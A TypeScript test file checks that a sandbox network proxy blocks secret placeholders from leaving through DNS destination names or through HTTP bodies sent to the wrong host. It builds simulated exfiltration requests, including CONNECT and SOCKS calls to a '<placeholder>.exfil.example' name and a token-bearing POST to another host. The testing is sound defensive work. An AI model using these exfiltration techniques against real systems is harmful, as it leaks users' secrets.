// A placeholder leaves by no route the proxy can read: not in the name of a destination (the
// resolver's query would carry it to a name server), not in the body of a plain http:// request
// to a host it does not belong to. A client on the proxy's socket (as the launcher joins a
// sandboxed connection to it) tries both; a loopback server records what reached it.
import { mkdtemp, rm } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import { connect } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseNetworkPolicy } from "../../../src/safety/sandbox/network/policy.js";
import { type NetworkProxy, startNetworkProxy } from "../../../src/safety/sandbox/network/proxy-server.js";
import { type SessionSecrets, startSecrets } from "../../../src/safety/sandbox/network/secrets/index.js";

let proxy: NetworkProxy;
let secrets: SessionSecrets | undefined;
let server: Server;
let port = 0;
let stateDir = "";
const bodies: string[] = [];
const asked: string[] = [];

beforeAll(async () => {
	server = createServer((request, response) => {
		let body = "";
		request.on("data", (chunk: Buffer) => {
			body += chunk.toString("latin1");
		});
		request.on("end", () => {
			bodies.push(body);
			response.end("ok\n");
		});
	});
	await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
	port = (server.address() as { port: number }).port;
	stateDir = await mkdtemp(join(tmpdir(), "toolbelt-placeholder-routes-"));
	secrets = await startSecrets([{ env: "ROUTES_TOKEN", hosts: ["secret.test"] }], {
		environment: { ROUTES_TOKEN: "routes-secret-value" },
		homeDir: "/nonexistent",
		stateDir,
	});
	proxy = await startNetworkProxy({
		stateDir,
		decide: {
			policy: parseNetworkPolicy(["*", `127.0.0.1:${port}`], []),
			hosts: { "secret.test": "127.0.0.1", "other.test": "127.0.0.1" },
			resolver: async (host) => {
				asked.push(host);
				return ["127.0.0.1"];
			},
		},
		secrets: secrets?.proxy,
	});
});

afterAll(async () => {
	await proxy?.close();
	server?.close();
	await rm(stateDir, { recursive: true, force: true });
});

/** Sends `data` after the launcher's line; resolves with the answer once the proxy closes. */
function exchange(kind: string, data: string | Buffer): Promise<string> {
	return new Promise((resolve) => {
		const socket = connect(proxy.socketPath);
		let answer = "";
		socket.on("connect", () => {
			socket.write(`call ${kind} 0\n`);
			socket.write(data);
		});
		socket.on("data", (chunk: Buffer) => {
			answer += chunk.toString("latin1");
		});
		socket.on("error", () => {});
		socket.on("close", () => resolve(answer));
		setTimeout(() => socket.destroy(), 10_000);
	});
}

describe("routes a placeholder could leave by", () => {
	it("a destination name holding a placeholder is refused before it is resolved", async () => {
		const placeholder = secrets?.environment.ROUTES_TOKEN ?? "";
		expect(placeholder).toMatch(/^toolbelt-placeholder-/);
		const name = `${placeholder}.exfil.example`;
		const viaConnect = await exchange("http", `CONNECT ${name}:443 HTTP/1.1\r\nHost: ${name}:443\r\n\r\n`);
		const viaSocks = await exchange(
			"socks",
			Buffer.concat([Buffer.from([5, 1, 0, 5, 1, 0, 3, name.length]), Buffer.from(name), Buffer.from([1, 187])]),
		);
		expect(viaConnect).toMatch(/^HTTP\/1\.1 403[\s\S]*placeholder of \$ROUTES_TOKEN/);
		expect([...Buffer.from(viaSocks, "latin1").subarray(2, 4)]).toEqual([5, 2]);
		expect(asked.filter((host) => host.includes("placeholder"))).toEqual([]);
	});

	it("a plain http:// request's body holding a placeholder goes only to the host it belongs to", async () => {
		const placeholder = secrets?.environment.ROUTES_TOKEN ?? "";
		const post = (host: string) => {
			const body = `token=${placeholder}`;
			return `POST http://${host}:${port}/ HTTP/1.1\r\nHost: ${host}:${port}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`;
		};
		bodies.length = 0;
		const refused = await exchange("http", post("other.test"));
		expect(refused).toMatch(/^HTTP\/1\.1 403[\s\S]*placeholder of \$ROUTES_TOKEN was sent to other\.test/);
		const sent = await exchange("http", post("secret.test"));
		expect(sent).toMatch(/^HTTP\/1\.1 200/);
		expect(bodies).toEqual([`token=${placeholder}`]);
	});
});
